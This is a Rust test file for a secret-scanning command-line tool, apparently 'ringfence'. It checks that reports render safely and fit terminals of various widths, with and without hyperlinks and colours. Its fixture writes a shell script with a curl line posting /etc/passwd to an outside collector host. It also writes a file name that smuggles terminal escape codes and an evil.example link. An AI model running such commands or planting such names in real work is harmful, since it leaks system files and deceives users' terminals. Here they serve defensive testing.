//! How reports look on a real terminal, wide and narrow, with links and without. `script` makes the terminal.

use unicode_width::UnicodeWidthStr;

use crate::support::{Dir, Outcome, contains, token};

const WIDTHS: [usize; 4] = [20, 40, 80, 200];

/// A repository with what is hard to show: wide characters, combining marks, hostile names, long words, gaps.
fn hard() -> Dir {
    let dir = Dir::repository();
    dir.write("設定/秘密の鍵.env", format!("トークン＝「{}」 # 本番環境の鍵です、見せないでください\n", token(1)));
    dir.write(
        "e\u{301}e\u{301}.py",
        format!("    # cafe\u{301} cafe\u{301} cafe\u{301}\n    TOKEN = \"{}\"\n", token(2)),
    );
    dir.write("a\u{1b}]8;;https:evil.example\u{7}b\u{1b}[31m\u{202e}", format!("{}\n", token(3)));
    dir.write(
        "deeply/nested/folders/with/quite/long/names/settings.production.json",
        format!("{{\"a\": \"{}\"}}", token(4)),
    );
    dir.write("run.sh", "#!/bin/sh\nset -x\ncurl -d @/etc/passwd https://collector.example/x\n");
    dir.link("/etc", "out");
    dir
}

/// What the program prints on a terminal of that width; `environment` stands before it as a shell has it.
fn shown(dir: &Dir, columns: usize, environment: &str, arguments: &str) -> Outcome {
    let program = env!("CARGO_BIN_EXE_ringfence");
    let line = format!("stty cols {columns} rows 50 -onlcr; {environment} exec '{program}' {arguments}");
    dir.try_run("script", &["--quiet", "--return", "--command", &line, "/dev/null"]).unwrap()
}

/// The text without styles and links, which must be all the control that there is.
fn stripped(text: &str) -> String {
    let (mut out, mut rest) = (String::new(), text);
    while let Some(at) = rest.find('\u{1b}') {
        out += &rest[..at];
        rest = &rest[at + 1..];
        if let Some(style) = rest.strip_prefix('[') {
            let end = style.find(|c: char| !c.is_ascii_digit() && c != ';').unwrap();
            assert!(style[end..].starts_with('m'), "only styles: {rest:?}");
            rest = &style[end + 1..];
        } else {
            let link = rest.strip_prefix("]8;;").unwrap_or_else(|| panic!("only links: {rest:?}"));
            let (url, after) = link.split_once("\u{1b}\\").unwrap();
            let is_known = url.is_empty() || url.starts_with("file://") || url.starts_with("https://");
            assert!(is_known && url.chars().all(|c| c.is_ascii_graphic()), "{url:?}");
            rest = after;
        }
    }
    out += rest;
    let inert = |c: char| c == '\n' || !(c.is_control() || c == '\u{202e}');
    assert!(out.chars().all(inert), "{out:?}");
    out
}

/// Fails where a line is wider than the terminal and could have been shorter.
fn fits(text: &str, columns: usize) {
    for line in text.lines().filter(|line| line.width() > columns) {
        assert!(!line.trim().contains(' ') && !line.contains('│'), "{} in {columns} columns: {line}", line.width());
    }
}

#[test]
fn reports_fit_terminals_of_any_width() {
    let dir = hard();
    for columns in WIDTHS {
        for arguments in
            ["scan", "scan . out --all", "scan --fail-on never --only secret", "rules show github-pat-classic"]
        {
            let outcome = shown(&dir, columns, "TERM=xterm", arguments);
            let text = stripped(&outcome.stdout());
            // Examples, and what is to be written into a policy, are there to be copied.
            fits(text.split("\nreported\n").next().unwrap(), columns);
            assert!(text.contains("critical") && !text.contains("internal error"), "{text}");
        }
        let text = stripped(&shown(&dir, columns, "TERM=xterm", "scan").stdout());
        assert!(text.contains("設定/秘密の鍵.env\n"), "{text}");
        // A caret stands under what it marks, by what the characters take.
        let lines: Vec<&str> = text.lines().collect();
        let at = lines.iter().position(|line| line.contains("=") && line.contains("TOKEN")).unwrap_or_default();
        if columns >= 80 {
            let value = lines[at].find("ghp_").unwrap();
            let caret = lines[at + 1].find('^').unwrap();
            assert_eq!(lines[at][..value].width(), lines[at + 1][..caret].width(), "{}\n{}", lines[at], lines[at + 1]);
        }
    }
}

#[test]
fn links_lead_to_files_and_pages_where_the_terminal_follows_them() {
    let dir = hard();
    let linked = shown(&dir, 80, "TERM=xterm-kitty", "scan").stdout();
    let base = dir.path().to_str().unwrap();
    let url = |path: &str| format!("{base}/{path}\u{1b}\\");
    assert!(linked.contains(&url("%E8%A8%AD%E5%AE%9A/%E7%A7%98%E5%AF%86%E3%81%AE%E9%8D%B5.env")), "{linked:?}");
    assert!(linked.contains(&url("a%1B%5D8%3B%3Bhttps%3Aevil.example%07b%1B%5B31m%E2%80%AE")), "{linked:?}");
    assert!(linked.contains("\u{1b}]8;;file://") && linked.contains("\u{1b}]8;;https://"), "{linked:?}");
    // The links are all that differs.
    let plain = shown(&dir, 80, "TERM=xterm", "scan").stdout();
    assert!(!plain.contains("\u{1b}]8"));
    assert_eq!(stripped(&linked), stripped(&plain));
    let deleted = Dir::repository();
    deleted.write("tests/a.rs", "#[test]\nfn a() {\n    assert!(login());\n}\n");
    deleted.commit("base");
    std::fs::remove_file(deleted.at("tests/a.rs")).unwrap();
    let gone = shown(&deleted, 80, "TERM=xterm-kitty", "diff").stdout();
    assert!(gone.contains("tests/a.rs") && !gone.contains("file://"), "what is gone is no link: {gone:?}");
}

#[test]
fn nobody_gets_links_who_might_not_follow_them() {
    let dir = hard();
    for environment in [
        "TERM=xterm-kitty NO_COLOR=1",
        "TERM=screen-256color VTE_VERSION=7600",
        "TERM=xterm-256color VTE_VERSION=7600 TMUX=/tmp/x,1,0",
        "TERM=dumb TERM_PROGRAM=WezTerm",
        "TERM= VTE_VERSION=7600",
        "TERM=xterm-256color VTE_VERSION=4000",
    ] {
        let outcome = shown(&dir, 80, environment, "scan");
        assert!(!contains(&outcome.stdout, b"\x1b]8"), "{environment}");
    }
    assert!(!contains(&shown(&dir, 80, "TERM=dumb", "scan").stdout, b"\x1b"), "a dumb terminal gets no styles");
    assert!(!contains(&shown(&dir, 80, "TERM=xterm-kitty", "scan --color never").stdout, b"\x1b"));
    assert!(!contains(&shown(&dir, 80, "TERM=xterm-kitty", "scan | cat").stdout, b"\x1b"));
    let forced = dir.ringfence(&["scan", "--color", "always"]).env("TERM", "xterm-kitty").ends();
    assert!(contains(&forced.stdout, b"\x1b[") && !contains(&forced.stdout, b"\x1b]8"), "a file follows no links");
}

#[test]
fn the_list_of_rules_is_folded_where_it_has_no_room() {
    let dir = Dir::plain();
    for columns in WIDTHS {
        let text = stripped(&shown(&dir, columns, "TERM=xterm", "rules list github").stdout());
        fits(&text, columns);
        assert!(text.contains("8 rules"), "{text}");
        let is_row = text.lines().any(|line| line.starts_with("github-pat-classic") && line.ends_with("(classic)"));
        assert_eq!(is_row, columns == 200, "{text}");
    }
    let piped = shown(&dir, 40, "TERM=xterm", "rules list github | cat").stdout();
    assert_eq!(piped.lines().count(), 8, "a line for each rule: {piped}");
    assert!(piped.contains("github-pat-classic             secret    critical high    GitHub personal"), "{piped}");
}

#[test]
fn messages_fit_narrow_terminals() {
    let dir = hard();
    for columns in [20, 40] {
        for arguments in [
            "scan nowhere-to-be-found",
            "scan --json",
            "scan --policy-from bease",
            "doctor",
            "scan --fail-on never --quiet --policy-from head",
            "scan --output report -vv",
        ] {
            fits(&stripped(&shown(&dir, columns, "TERM=xterm", arguments).stdout()), columns);
        }
    }
    // Words stand beside each other again where options have a line of their own.
    let help = stripped(&shown(&dir, 40, "TERM=xterm", "scan -h").stdout());
    assert!(help.contains("--no-ignore\n          Scan what"), "{help}");
    let wide = stripped(&shown(&dir, 80, "TERM=xterm", "scan -h").stdout());
    assert!(wide.lines().any(|line| line.contains("--no-ignore  ") && line.contains("Scan what")), "{wide}");
}

/// What reads lines gets lines, however long they are.
#[test]
fn a_pipe_gets_whole_lines() {
    let dir = hard();
    let outcome = dir.ringfence(&["scan"]).ends();
    let last = outcome.stdout().lines().last().unwrap().to_owned();
    assert!(last.contains(" critical") && last.ends_with("complete"), "{last}");
}

/// No text in a colour that one ground swallows: neither yellow nor white, black, cyan or blue.
#[test]
fn colours_are_readable_on_light_and_dark() {
    let dir = hard();
    for arguments in ["scan . out --all", "rules show github-pat-classic", "--help", "scan --ouput x"] {
        let text = shown(&dir, 80, "TERM=xterm", arguments).stdout();
        let codes = text
            .split("\u{1b}[")
            .skip(1)
            .filter_map(|part| part.split_once('m'))
            .flat_map(|(codes, _)| codes.split(';'));
        for code in codes {
            assert!(
                !matches!(code, "30" | "33" | "34" | "36" | "37" | "90" | "93" | "96" | "97"),
                "{code} in {arguments}"
            );
        }
    }
}
